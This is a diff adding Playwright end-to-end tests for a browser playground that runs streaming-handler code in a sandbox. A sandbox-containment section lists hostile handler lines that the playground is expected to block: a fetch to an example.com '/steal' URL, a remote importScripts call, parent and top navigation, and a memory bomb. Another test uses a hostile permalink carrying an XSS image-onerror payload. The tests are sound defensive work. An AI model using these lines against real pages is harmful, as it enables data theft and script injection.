@@ -1,0 +1,306 @@
+import AxeBuilder from '@axe-core/playwright';
+import { expect, test, type Page } from '@playwright/test';
+
+/** The playground through its visible controls (role and label locators). */
+class PlaygroundPage {
+  constructor(readonly page: Page) {}
+
+  async open(hash = '') {
+    await this.page.goto(`/playground/${hash}`);
+    await expect(this.page.locator('.playground[data-ready=true]')).toBeVisible();
+  }
+
+  handlerTextarea() {
+    return this.page.getByRole('textbox', { name: /^Handler/ });
+  }
+
+  scenarioTextarea() {
+    return this.page.getByRole('textbox', { name: 'Scenario (YAML)' });
+  }
+
+  /** Replaces an editor's text, whichever editor (plain or Monaco) is showing. */
+  async setEditor(id: 'handler' | 'scenario', text: string) {
+    const pane = this.page.locator(`[data-editor=${id}]`);
+    if ((await pane.getAttribute('data-mode')) === 'monaco') {
+      await pane.locator('.monaco-editor').click();
+      await this.page.keyboard.press('ControlOrMeta+A');
+      await this.page.keyboard.press('Delete');
+      await this.page.keyboard.insertText(text);
+    } else {
+      await pane.locator('textarea').fill(text);
+    }
+  }
+
+  async chooseHandler(label: string) {
+    await this.page.getByLabel('Handler', { exact: true }).selectOption({ label });
+  }
+
+  async run() {
+    await this.page.getByRole('button', { name: 'Run', exact: true }).click();
+    await expect(this.page.locator('.pg-summary').first()).toBeVisible({ timeout: 45_000 });
+  }
+
+  committed(partition: number) {
+    return this.page.locator(`.pg-partitions tr[data-partition="${partition}"] td`).first();
+  }
+
+  invocations() {
+    return this.page.locator('.pg-inv');
+  }
+}
+
+/** A small scenario: one partition, a few records, a short run (keeps retry storms short). */
+const shortScenario = (count: number, duration = '5s') => `name: e2e
+duration: ${duration}
+topic: { name: orders, partitions: 1 }
+produce:
+  - { partition: 0, count: ${count} }
+mapping:
+  StartingPosition: TRIM_HORIZON
+  BatchSize: 10
+function:
+  timeout: 3s
+`;
+
+// Touch emulation gives the plain editor: the same runs without Monaco (and fast, reliable typing).
+test.describe('with the plain editor (touch device)', () => {
+  test.use({ hasTouch: true, isMobile: true, viewport: { width: 390, height: 844 } });
+
+  test('a handler that throws on offset 5 leaves partition 0 stuck', async ({ page }) => {
+    const pg = new PlaygroundPage(page);
+    await pg.open();
+    await pg.chooseHandler('Poison pill (throws on offset 5)');
+    await pg.run();
+    await expect(pg.committed(0)).toHaveText('5');
+    await expect(pg.invocations().filter({ hasText: 'cannot parse record 0/5' }).first()).toBeVisible();
+    // the error points at the editor line that threw
+    await expect(pg.invocations().getByRole('button', { name: 'line 7' }).first()).toBeVisible();
+  });
+
+  test('a handler returning batchItemFailures gets a partial retry', async ({ page }) => {
+    const pg = new PlaygroundPage(page);
+    await pg.open();
+    await pg.chooseHandler('Partial batch reporter');
+    await pg.run();
+    await expect(pg.committed(0)).toHaveText('20');
+    await expect(
+      pg
+        .invocations()
+        .locator('[data-outcome=partial]')
+        .or(pg.page.locator('.pg-inv[data-outcome=partial]'))
+        .first(),
+    ).toBeVisible();
+    // the retry starts at the reported record, not at the start of the batch
+    await expect(
+      pg.invocations().filter({ hasText: 'attempt 2' }).filter({ hasText: 'p0: 5' }).first(),
+    ).toBeVisible();
+  });
+
+  test('while (true) {} ends as a timeout and the page stays responsive', async ({ page }) => {
+    const pg = new PlaygroundPage(page);
+    await pg.open();
+    await pg.setEditor('scenario', shortScenario(1, '8s'));
+    await pg.setEditor('handler', 'export const handler = async () => {\n  while (true) {}\n};\n');
+    await page.getByRole('button', { name: 'Run', exact: true }).click();
+    // while the sandbox spins, the page answers at once
+    const started = Date.now();
+    await page.evaluate(() => new Promise((r) => requestAnimationFrame(r)));
+    expect(Date.now() - started).toBeLessThan(500);
+    await expect(pg.page.locator('.pg-summary')).toBeVisible({ timeout: 45_000 });
+    await expect(pg.invocations().first()).toContainText('killed (timeout)');
+    await expect(pg.invocations().first()).toContainText('Killed after');
+    await expect(pg.committed(0)).toHaveText('none');
+  });
+
+  const attacks: [string, string, RegExp][] = [
+    [
+      'fetch',
+      "await fetch('https://example.com/steal');",
+      /fetch is not available in the playground sandbox/,
+    ],
+    ['document', "document.title = 'pwned';", /document is not available/],
+    ['localStorage', "localStorage.setItem('offset-lab:playground', 'x');", /localStorage is not available/],
+    ['parent navigation', "parent.location.href = 'https://example.com/';", /parent is not available/],
+    ['top navigation', "top.location = 'https://example.com/';", /top is not available/],
+    ['importScripts', "importScripts('https://example.com/x.js');", /importScripts is not available/],
+    ['a memory bomb', 'const hoard = []; while (true) hoard.push(new Array(1e6).fill(1.5));', /Killed after/],
+  ];
+  for (const [name, code, message] of attacks) {
+    test(`a handler that tries ${name} is contained with a message`, async ({ page }) => {
+      const pg = new PlaygroundPage(page);
+      await pg.open();
+      const before = { url: page.url(), title: await page.title() };
+      await pg.setEditor('scenario', shortScenario(1, '2s'));
+      await pg.setEditor('handler', `export const handler = async () => {\n  ${code}\n};\n`);
+      await pg.run();
+      await expect(pg.invocations().first()).toContainText(message);
+      expect(page.url().split('#')[0]).toBe(before.url.split('#')[0]);
+      expect(await page.title()).toBe(before.title);
+      expect(await page.evaluate(() => localStorage.getItem('offset-lab:playground'))).not.toBe('x');
+    });
+  }
+
+  test('a permalink round-trips the whole state', async ({ page, browser }) => {
+    const pg = new PlaygroundPage(page);
+    await pg.open();
+    const handler = 'export const handler = async () => {\n  console.log("permalink round trip");\n};\n';
+    await pg.setEditor('handler', handler);
+    await page.getByLabel('Compare two mappings').check();
+    await expect(page).toHaveURL(/#pg1\./);
+    await page.waitForTimeout(500);
+    const link = page.url();
+    expect(new URL(link).hash.length).toBeLessThan(2000);
+    const other = await browser.newContext({ hasTouch: true, isMobile: true });
+    const fresh = new PlaygroundPage(await other.newPage());
+    await fresh.page.goto(link);
+    await expect(fresh.handlerTextarea()).toHaveValue(handler);
+    await expect(fresh.page.getByLabel('Compare two mappings')).toBeChecked();
+    await other.close();
+  });
+
+  test('a corrupt or hostile permalink shows a message and falls back', async ({ page }) => {
+    const pg = new PlaygroundPage(page);
+    let dialogs = 0;
+    page.on('dialog', (d) => {
+      dialogs++;
+      void d.dismiss();
+    });
+    await pg.open('#pg1.<img src=x onerror=alert(1)>');
+    await expect(page.getByRole('status')).toContainText('This link could not be opened');
+    await expect(pg.handlerTextarea()).toHaveValue(/export const handler/);
+    await pg.open('#pg1.eJxLTEpOSU1JBQAGNgIJ');
+    await expect(page.getByRole('status')).toContainText('This link could not be opened');
+    expect(dialogs).toBe(0);
+  });
+
+  test('a reload keeps the work, and Reset brings back the defaults', async ({ page }) => {
+    const pg = new PlaygroundPage(page);
+    await pg.open();
+    const handler = 'export const handler = async () => {\n  console.log("kept across reloads");\n};\n';
+    await pg.setEditor('handler', handler);
+    await page.waitForTimeout(600);
+    await pg.open(); // no fragment: the autosave
+    await expect(pg.handlerTextarea()).toHaveValue(handler);
+    await page.getByRole('button', { name: 'Reset' }).click();
+    await expect(pg.handlerTextarea()).toHaveValue(/Idempotent/);
+  });
+
+  test('scenario errors are marked on their line', async ({ page }) => {
+    const pg = new PlaygroundPage(page);
+    await pg.open();
+    await pg.setEditor(
+      'scenario',
+      shortScenario(1).replace('BatchSize: 10', 'BatchSize: 0\n  ParallelizationFactor: 2'),
+    );
+    const problems = page.locator('[data-editor=scenario] .pg-problem');
+    await expect(problems.filter({ hasText: /^Line 8: mapping\.BatchSize/ })).toBeVisible();
+    await expect(problems.filter({ hasText: /^Line 9: mapping\.ParallelizationFactor/ })).toBeVisible();
+  });
+
+  test('Compare runs both mappings and fills the scorecard', async ({ page }) => {
+    const pg = new PlaygroundPage(page);
+    await pg.open();
+    await pg.chooseHandler('Poison pill (throws on offset 5)');
+    await page.getByLabel('Compare two mappings').check();
+    await page.getByRole('button', { name: 'Run', exact: true }).click();
+    const card = page.getByRole('table', { name: /Scorecard/ });
+    await expect(card).toBeVisible({ timeout: 60_000 });
+    await expect(card.getByRole('row')).toHaveCount(7);
+    // A retries forever and never drains; B gives up after 2 retries and discards
+    await expect(card.getByRole('row', { name: /Time to drain/ })).toContainText('never');
+    await expect(
+      card
+        .getByRole('row', { name: /Records discarded/ })
+        .getByRole('cell')
+        .nth(0),
+    ).toHaveText('0');
+    await expect(
+      card
+        .getByRole('row', { name: /Records discarded/ })
+        .getByRole('cell')
+        .nth(1),
+    ).not.toHaveText('0');
+  });
+
+  test('is usable at 360 px', async ({ page }) => {
+    await page.setViewportSize({ width: 360, height: 800 });
+    const pg = new PlaygroundPage(page);
+    await pg.open();
+    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
+    expect(overflow).toBeLessThanOrEqual(0);
+    await pg.run();
+    await expect(pg.committed(0)).toHaveText('20');
+  });
+});
+
+test.describe('with Monaco (desktop)', () => {
+  test('Monaco loads only on the playground, on demand, interactive within 3 s', async ({ page }) => {
+    const monacoRequests: string[] = [];
+    page.on('request', (r) => {
+      if (/editor\.api|ts\.worker|kit\./.test(r.url())) monacoRequests.push(r.url());
+    });
+    await page.goto('/');
+    await page.mouse.move(10, 10);
+    await page.waitForLoadState('networkidle');
+    expect(monacoRequests).toEqual([]);
+
+    const started = Date.now();
+    await page.goto('/playground/');
+    // no Monaco stylesheet blocks the first paint
+    expect(
+      await page
+        .locator('head link[rel=stylesheet][href*=monaco], head link[rel=stylesheet][href*=editor]')
+        .count(),
+    ).toBe(0);
+    await expect(page.locator('.playground[data-ready=true]')).toBeVisible();
+    await page.mouse.move(400, 500);
+    await page.mouse.move(420, 520);
+    const editor = page.locator('[data-editor=handler] .monaco-editor');
+    await expect(editor).toBeVisible({ timeout: 15_000 });
+    await editor.click();
+    await page.keyboard.press('ControlOrMeta+End');
+    await page.keyboard.type('// typed');
+    await expect(page.locator('[data-editor=handler] .view-lines')).toContainText('// typed');
+    const interactiveMs = Date.now() - started;
+    test.info().annotations.push({ type: 'editor interactive (ms)', description: String(interactiveMs) });
+    console.log(`editor interactive after ${interactiveMs} ms`);
+    expect(interactiveMs).toBeLessThan(3000);
+  });
+
+  test('IntelliSense knows MSKEvent, and a Monaco-edited handler runs', async ({ page }) => {
+    const pg = new PlaygroundPage(page);
+    await pg.open();
+    await page.mouse.move(400, 500);
+    await expect(page.locator('[data-editor=handler][data-mode=monaco]')).toBeVisible({ timeout: 15_000 });
+    await pg.setEditor('handler', 'export const handler = async (event: MSKEvent) => {\n  event.rec');
+    await page.keyboard.press('Control+Space');
+    await expect(page.locator('.suggest-widget')).toContainText('records', { timeout: 15_000 });
+    await page.keyboard.press('Escape');
+    await pg.setEditor(
+      'handler',
+      'export const handler = async (event: MSKEvent) => {\n  console.log(Object.keys(event.records));\n};\n',
+    );
+    await pg.run();
+    await expect(pg.committed(0)).toHaveText('20');
+    await expect(pg.invocations().first()).toContainText('orders-0');
+  });
+
+  for (const theme of ['light', 'dark'] as const) {
+    test(`axe finds nothing and the page looks right (${theme})`, async ({ page }) => {
+      await page.emulateMedia({ colorScheme: theme });
+      const pg = new PlaygroundPage(page);
+      await pg.open();
+      await page.setViewportSize({ width: 1400, height: 1100 });
+      await page.mouse.move(400, 500);
+      await expect(page.locator('[data-editor=handler][data-mode=monaco]')).toBeVisible({ timeout: 15_000 });
+      await pg.chooseHandler('Poison pill (throws on offset 5)');
+      await pg.run();
+      await page.screenshot({ path: `test-results/playground-${theme}.png`, fullPage: true });
+      const results = await new AxeBuilder({ page })
+        // Starlight's own search button (toolchain guide §6, upstream issue)
+        .exclude('site-search button[data-open-modal]')
+        .analyze();
+      expect(results.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(' ')}`)).toEqual([]);
+    });
+  }
+});
